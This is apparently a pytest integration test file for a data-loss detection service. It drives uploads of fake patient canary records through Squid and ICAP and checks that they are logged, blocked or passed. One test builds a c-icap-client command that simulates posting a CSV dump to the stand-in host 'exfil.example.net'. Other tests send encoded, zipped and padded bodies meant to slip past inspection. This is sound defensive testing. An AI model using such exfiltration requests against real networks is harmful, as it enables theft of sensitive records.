"""Uploads through a real Squid that asks the ICAP service (Debian squid; skipped without it)."""

from __future__ import annotations

import json
import shutil
import subprocess
import urllib.parse
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from canary.alert.correlate import correlate_all
from canary.store import open_db
from tests.support.egress import csv_rows, encoded_bodies, events_for, gzipped, passed_counts, xlsx, zipped
from tests.support.peers.egress import SQUID, Squid, UploadTarget
from tests.support.records import make_record

pytestmark = pytest.mark.skipif(SQUID is None, reason="squid is not installed (Debian package 'squid')")


@pytest.fixture(scope="module")
def target() -> Iterator[UploadTarget]:
    with UploadTarget() as server:
        yield server


@pytest.fixture(scope="module")
def squid(icap_monitor, icap_block) -> Iterator[Squid]:
    services = {"monitor": f"icap://127.0.0.1:{icap_monitor.port}/reqmod",
                "block": f"icap://127.0.0.1:{icap_block.port}/reqmod"}
    with Squid(services) as proxy:
        yield proxy


def upload(squid: Squid, mode: str, url: str, data: bytes, user: str | None = "alice", **kwargs) -> requests.Response:
    session = requests.Session()
    session.trust_env = False  # no proxy or no_proxy from the environment: always through this Squid
    proxy = squid.proxy(mode, user)
    return session.post(url, data=data, proxies={"http": proxy}, timeout=30, **kwargs)


def fresh_path(tag: str) -> str:
    return f"/upload/{tag}-{uuid.uuid4().hex[:8]}"


FORMATS = {
    "plain csv": lambda c: ({"Content-Type": "text/csv"}, csv_rows(c[0])),
    "phone only": lambda c: ({"Content-Type": "text/plain"}, csv_rows(c[0], phone_only=True)),
    "gzip": lambda c: ({"Content-Type": "text/csv", "Content-Encoding": "gzip"}, gzipped(csv_rows(c[0]))),
    "large csv": lambda c: ({"Content-Type": "text/csv"}, b"padding;\n" * 40000 + csv_rows(c[0])),
    "url-encoded form": lambda c: ({"Content-Type": "application/x-www-form-urlencoded"}, urllib.parse.urlencode(
        {"nom": c[0]["birth_name"], "nir": c[0]["nir"][:1] + " " + c[0]["nir"][1:], "note": "é"}).encode()),
    "json": lambda c: ({"Content-Type": "application/json"}, json.dumps(
        {"patients": [{"nom": c[0]["birth_name"], "tel": c[0]["phones"][0]}]}).encode()),
    "xlsx": lambda c: ({"Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
                       xlsx(c[0])),
}


@pytest.mark.parametrize("form", list(FORMATS))
def test_upload_with_a_canary_is_seen_and_arrives_unchanged(squid, target, registry, form):
    db_path, canaries = registry
    headers, body = FORMATS[form](canaries)
    path = fresh_path("monitor")
    answer = upload(squid, "monitor", target.url(path), body, headers=headers)
    assert answer.status_code == 200
    assert target.received[path] == body
    events = events_for(db_path, path)
    assert len(events) == 1
    event = events[0]
    assert (event["channel"], event["canary_id"], event["system"]) == ("egress-web", "eg0000", "ehr-lyon")
    assert event["source"] == "127.0.0.1" and event["account"] == "alice" and event["action"] == "passed"
    assert event["details"]["destination"] == "127.0.0.1"
    assert event["details"]["url"] == target.url(path)
    assert event["details"]["group"].startswith("egress-web:")
    assert canaries[0]["nir"] not in event["details"]["evidence"]  # masked


def test_zip_inside_a_form_upload(squid, target, registry):
    db_path, canaries = registry
    path = fresh_path("form")
    files = {"fichier": ("export.zip", zipped("patients.csv", csv_rows(canaries[2])), "application/zip")}
    session = requests.Session()
    session.trust_env = False
    answer = session.post(target.url(path), files=files, data={"commentaire": "pour info"},
                          proxies={"http": squid.proxy("monitor")}, timeout=30)
    assert answer.status_code == 200
    assert b"PK" in target.received[path]
    events = events_for(db_path, path)
    assert [(e["canary_id"], e["system"]) for e in events] == [("eg0002", "lab-nord")]
    assert events[0]["details"]["file"].endswith("/export.zip!patients.csv")


def test_one_upload_of_many_canaries_is_one_alert_naming_every_system(squid, target, registry):
    db_path, canaries = registry
    path = fresh_path("many")
    body = csv_rows(*canaries)
    assert upload(squid, "monitor", target.url(path), body, headers={"Content-Type": "text/csv"}).status_code == 200
    events = events_for(db_path, path)
    assert sorted(e["canary_id"] for e in events) == ["eg0000", "eg0001", "eg0002", "eg0003"]
    assert len({e["details"]["group"] for e in events}) == 1
    assert events[0]["details"]["systems"] == ["ehr-lyon", "lab-nord"]
    db = open_db(db_path)
    try:
        correlate_all(db)
        # The upload's events share one alert: its own, or (incident correlation) the unresolved alert an
        # earlier test of this module opened on the same canaries within alert.incident_window_seconds.
        ids = [e["id"] for e in events]
        alerts = list(db.query(
            f"""SELECT DISTINCT a.id, a.systems FROM alerts a JOIN alert_events ae ON ae.alert_id = a.id
                WHERE ae.event_id IN ({", ".join("?" for _ in ids)})""", ids))
    finally:
        db.close()
    assert len(alerts) == 1 and "ehr-lyon" in alerts[0]["systems"] and "lab-nord" in alerts[0]["systems"]


@pytest.mark.parametrize("padding", [0, 400_000], ids=["in the preview", "past the preview"])
def test_block_mode_refuses_the_upload(squid, target, registry, padding):
    db_path, canaries = registry
    path = fresh_path("block")
    body = b"x;\n" * (padding // 3) + csv_rows(canaries[1])
    answer = upload(squid, "block", target.url(path), body, headers={"Content-Type": "text/csv"})
    assert answer.status_code == 403
    assert "bloqué" in answer.text
    assert path not in target.received
    events = events_for(db_path, path)
    assert [(e["canary_id"], e["action"]) for e in events] == [("eg0001", "blocked")]


@pytest.mark.parametrize("mode", ["monitor", "block"])
def test_upload_without_canary_is_untouched(squid, target, registry, mode):
    db_path, _ = registry
    path = fresh_path(f"clean-{mode}")
    body = b"nom;prenom\nDURAND;Paul\n" * 2000  # larger than the preview
    answer = upload(squid, mode, target.url(path), body, headers={"Content-Type": "text/csv"})
    assert answer.status_code == 200 and target.received[path] == body
    assert events_for(db_path, path) == []


def test_body_over_the_limit_is_passed_and_counted(squid, target, registry):
    db_path, canaries = registry
    before = passed_counts(db_path).get(("egress-web", "over_limit"), (0, 0))[0]
    path = fresh_path("big")
    body = csv_rows(canaries[0]) + b"x" * (3 * 1024 * 1024)  # the services' limit is 1 MiB
    for mode in ("monitor", "block"):
        answer = upload(squid, mode, target.url(path + mode), body, headers={"Content-Type": "text/csv"})
        assert answer.status_code == 200 and target.received[path + mode] == body
    assert events_for(db_path, path) == []
    assert passed_counts(db_path)[("egress-web", "over_limit")][0] == before + 2


def test_get_requests_pass(squid, target):
    session = requests.Session()
    session.trust_env = False
    answer = session.get(target.url("/page"), proxies={"http": squid.proxy("block")}, timeout=30)
    assert answer.status_code == 200 and answer.text == "hello\n"


@pytest.mark.skipif(shutil.which("c-icap-client") is None, reason="c-icap-client is not installed (Debian 'c-icap')")
@pytest.mark.parametrize("preview", [True, False])
def test_c_icap_client_as_a_second_client(icap_block, registry, tmp_path: Path, preview):
    db_path, canaries = registry
    upload_file = tmp_path / "dump.csv"
    upload_file.write_bytes(csv_rows(canaries[3]) + b"padding;\n" * 2000)
    out = tmp_path / "answer.txt"
    path = fresh_path("cicap")
    command = ["c-icap-client", "-i", "127.0.0.1", "-p", str(icap_block.port), "-s", "reqmod", "-req",
               f"http://exfil.example.net{path}", "-method", "POST", "-f", str(upload_file), "-o", str(out),
               "-x", "X-Client-IP: 10.20.30.40", "-v"]
    if not preview:
        command.append("-nopreview")
    run = subprocess.run(command, capture_output=True, timeout=30, text=True)
    assert "HTTP/1.1 403 Forbidden" in run.stdout + run.stderr, run.stdout + run.stderr
    assert "bloqué" in out.read_text(errors="replace")
    events = events_for(db_path, path)
    assert [(e["canary_id"], e["source"], e["details"]["destination"]) for e in events] == \
        [("eg0003", "10.20.30.40", "exfil.example.net")]


@pytest.mark.parametrize("mode", ["monitor", "block"])
@pytest.mark.parametrize("encoding", list(encoded_bodies(make_record(200))))
def test_each_encoding_is_read_as_the_server_would(squid, target, registry, encoding, mode):
    """Content codings (nested too), base64 and JSON-escaped bodies, a form part with its own transfer
    encoding, an xlsx with a harmless DOCTYPE: seen in monitor mode, refused in block mode."""
    db_path, canaries = registry
    headers, body = encoded_bodies(canaries[1])[encoding]
    path = fresh_path(f"encoded-{mode}")
    answer = upload(squid, mode, target.url(path), body, headers=headers)
    events = events_for(db_path, path)
    assert [e["canary_id"] for e in events] == ["eg0001"], encoding
    if mode == "monitor":
        assert answer.status_code == 200 and target.received[path] == body
        assert events[0]["action"] == "passed"
    else:
        assert answer.status_code == 403 and path not in target.received
        assert events[0]["action"] == "blocked"
